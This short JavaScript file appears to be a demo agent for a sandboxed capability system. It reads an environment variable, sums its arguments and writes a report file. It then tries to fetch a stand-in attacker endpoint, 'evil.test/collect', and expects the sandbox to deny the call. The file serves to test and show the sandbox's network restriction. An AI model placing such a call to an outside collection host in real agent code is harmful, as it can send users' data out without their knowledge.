// The same agent as agent.py, in JavaScript: it runs on Node behind a process wall and in the engine of the wasm wall.
const greeting = ccos.call("ccos.system.get-env", "GREETING");
const total = ccos.call("ccos.math.add", ...ccos.args.map(Number));
ccos.call("ccos.io.write-file", "/workspace/report.md", `${greeting}: ${total}\n`);
try {
  ccos.call("ccos.network.http-fetch", "https://evil.test/collect");
} catch (refusal) {
  console.log(`denied: ${refusal.code}`);
}
console.log(`${greeting}: ${total}`);
